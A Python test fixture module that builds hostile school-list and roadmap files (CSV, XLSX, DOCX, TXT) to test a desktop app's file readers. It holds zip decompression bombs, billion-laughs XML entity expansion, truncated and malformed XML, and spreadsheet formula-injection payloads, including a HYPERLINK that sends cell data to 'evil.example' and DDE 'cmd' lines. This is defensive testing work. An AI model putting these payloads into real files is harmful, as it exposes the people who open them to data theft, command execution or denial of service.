"""Hostile school lists (CSV, XLSX) and roadmaps (DOCX, XLSX, CSV, TXT), made at test time.

Office files start as real ones (openpyxl, python-docx) and get one member replaced: a sheet or
document that inflates a thousandfold (1 GB of XML in about a megabyte), XML cut off mid-tag, a
DTD whose entities expand a thousand million times. Files over the readers' size limits are
sparse (a header, then a hole): a reader that looks at the size first never reads them.
"""

from __future__ import annotations

import io
import random
import zipfile
from pathlib import Path

from curator_desktop.domain.schools.inn import make_inn
from tests.services.limits.hostile_files import document, workbook

from .zip_parts import DEFLATED, MB, Content, repeated, write_zip

ROOT = Path(__file__).resolve().parents[2]
SHEET = "xl/worksheets/sheet1.xml"
DOCUMENT = "word/document.xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LIST_HEADER = ["Район", "Наименование ОО", "ИНН", "ФИО руководителя"]
INNS = (make_inn("470401001"), make_inn("470401002"))
ROADMAP_TEXT = (ROOT / "tests" / "fixtures" / "roadmaps" / "smolensk-oblast-2021.txt").read_text(
    encoding="utf-8"
)


def list_rows() -> list[list[str]]:
    return [
        LIST_HEADER,
        ["Тихвинский", "МОУ «Тихвинская СОШ № 1»", INNS[0], "Орлова Н. В."],
        ["Лужский", "МОУ «Толмачёвская СОШ»", INNS[1], "Климов А. А."],
    ]


def _csv(rows: list[list[str]], delimiter: str = ";") -> str:
    import csv

    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


def swapped(original: bytes, target: Path, name: str, content: Content) -> Path:
    """The office file ``original`` with member ``name`` replaced by ``content``."""
    with zipfile.ZipFile(io.BytesIO(original)) as archive:
        members = [
            (info.filename, archive.read(info), DEFLATED)
            for info in archive.infolist()
            if info.filename != name
        ]
    write_zip(target, [(name, content, DEFLATED), *members])
    return target


def sparse(target: Path, head: bytes, size: int) -> Path:
    """``head`` then zeros up to ``size`` bytes, as a hole."""
    with target.open("wb") as out:
        out.write(head)
        out.truncate(size)
    return target


def noise(target: Path, size: int = 64 * 1024) -> Path:
    target.write_bytes(random.Random(18).randbytes(size))
    return target


def _sheet_row(number: int, *values: str) -> bytes:
    cells = "".join(
        f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
        for i, value in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'.encode()


def _inflating_sheet() -> Content:
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN_NS}"><sheetData>'
    head_bytes = head.encode() + _sheet_row(1, *LIST_HEADER)
    unit = _sheet_row(2, "Лужский", "МОУ «Школа»", INNS[1], "Климов А. А.") + b" " * 8192
    return repeated(unit, 1024 * MB, head=head_bytes, tail=b"</sheetData></worksheet>")


def _inflating_document() -> Content:
    head = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{WORD_NS}"><w:body>'
    unit = (
        "<w:p><w:r><w:t>До 25.01.2021 провести совещание</w:t></w:r></w:p>".encode() + b" " * 8192
    )
    return repeated(unit, 1024 * MB, head=head.encode(), tail=b"</w:body></w:document>")


def _laughs(root: str) -> str:
    entities = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY a0 "ха-ха">{entities}]>'


def _laughing_sheet() -> bytes:
    return (
        f'<?xml version="1.0"?>{_laughs("worksheet")}<worksheet xmlns="{MAIN_NS}"><sheetData>'
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row>'
        f"</sheetData></worksheet>"
    ).encode()


def _laughing_document() -> bytes:
    return (
        f'<?xml version="1.0"?>{_laughs("w:document")}<w:document xmlns:w="{WORD_NS}"><w:body>'
        f"<w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


_BROKEN_SHEET = (
    f'<?xml version="1.0"?><worksheet xmlns="{MAIN_NS}"><sheetData><row r="1">'
    f'<c r="A1" t="inlineStr"><is><t>Район</t></is></c></row><row r="2"><c r="A2" t="inl'
).encode()
_BROKEN_DOCUMENT = (
    f'<?xml version="1.0"?><w:document xmlns:w="{WORD_NS}"><w:body><w:p><w:r><w:t>До 25.'
).encode()


# --- school lists -------------------------------------------------------------------------


def list_control(target: Path) -> Path:
    target.write_bytes(_csv(list_rows()).encode("cp1251"))
    return target


def list_utf16(target: Path) -> Path:
    """What Excel saves as «Текст Юникод»: UTF-16 LE with a BOM, tabs between cells."""
    target.write_bytes(b"\xff\xfe" + _csv(list_rows(), "\t").encode("utf-16-le"))
    return target


FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1;"Нажмите")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+7(812)555-55-55",
    "-2+3+cmd|' /C calc'!A0",
)


def list_formulas_csv(target: Path) -> Path:
    rows = [LIST_HEADER] + [
        ["Лужский", formula, INNS[n % 2] if n < 2 else "", formula]
        for n, formula in enumerate(FORMULAS)
    ]
    target.write_bytes(_csv(rows).encode("cp1251"))
    return target


def list_formulas_xlsx(target: Path) -> Path:
    rows: list[list[object]] = [LIST_HEADER]
    rows += [["Лужский", formula, INNS[n % 2] if n < 2 else "", formula]
             for n, formula in enumerate(FORMULAS)]  # fmt: skip
    target.write_bytes(workbook(rows))
    return target


def list_xlsx_inflating(target: Path) -> Path:
    return swapped(workbook(list_rows()), target, SHEET, _inflating_sheet())


def list_xlsx_malformed(target: Path) -> Path:
    return swapped(workbook(list_rows()), target, SHEET, _BROKEN_SHEET)


def list_xlsx_laughs(target: Path) -> Path:
    return swapped(workbook(list_rows()), target, SHEET, _laughing_sheet())


def list_xlsx_truncated(target: Path) -> Path:
    """The first half of a real workbook (a copy cut short)."""
    data = workbook(list_rows())
    target.write_bytes(data[: len(data) // 2])
    return target


def list_csv_noise(target: Path) -> Path:
    return noise(target)


def list_csv_huge_field(target: Path) -> Path:
    rows = [LIST_HEADER, ["Лужский", "Ш" * 1_000_000, INNS[0], "Климов А. А."]]
    target.write_bytes(_csv(rows).encode("cp1251"))
    return target


def list_csv_oversize(target: Path) -> Path:
    return sparse(target, _csv(list_rows()).encode("cp1251"), 300 * MB)


# --- roadmaps -------------------------------------------------------------------------------


def roadmap_control(target: Path) -> Path:
    target.write_text(ROADMAP_TEXT, encoding="utf-8")
    return target


def roadmap_txt_utf16(target: Path) -> Path:
    target.write_bytes(b"\xff\xfe" + ROADMAP_TEXT.encode("utf-16-le"))
    return target


def roadmap_txt_noise(target: Path) -> Path:
    return noise(target)


def roadmap_txt_oversize(target: Path) -> Path:
    return sparse(target, ROADMAP_TEXT.encode("utf-8"), 300 * MB)


def roadmap_csv_noise(target: Path) -> Path:
    return noise(target)


def roadmap_csv_oversize(target: Path) -> Path:
    head = "№;Мероприятие;Срок;Ответственный\r\n1;Провести совещание;До 25.01.2021;Координатор\r\n"
    return sparse(target, head.encode("cp1251"), 300 * MB)


def _roadmap_docx() -> bytes:
    return document(ROADMAP_TEXT.splitlines()[:40])


def roadmap_docx_inflating(target: Path) -> Path:
    return swapped(_roadmap_docx(), target, DOCUMENT, _inflating_document())


def roadmap_docx_malformed(target: Path) -> Path:
    return swapped(_roadmap_docx(), target, DOCUMENT, _BROKEN_DOCUMENT)


def roadmap_docx_laughs(target: Path) -> Path:
    return swapped(_roadmap_docx(), target, DOCUMENT, _laughing_document())


def roadmap_docx_truncated(target: Path) -> Path:
    data = _roadmap_docx()
    target.write_bytes(data[: len(data) // 2])
    return target


def roadmap_docx_not_zip(target: Path) -> Path:
    target.write_text(ROADMAP_TEXT, encoding="utf-8")
    return target


def _roadmap_xlsx() -> bytes:
    return workbook([["№", "Мероприятие", "Срок", "Ответственный"]] + [
        [str(n), "Провести совещание с кураторами", "До 25.01.2021", "Координатор"]
        for n in range(1, 6)
    ])  # fmt: skip


def roadmap_xlsx_inflating(target: Path) -> Path:
    return swapped(_roadmap_xlsx(), target, SHEET, _inflating_sheet())


def roadmap_xlsx_malformed(target: Path) -> Path:
    return swapped(_roadmap_xlsx(), target, SHEET, _BROKEN_SHEET)
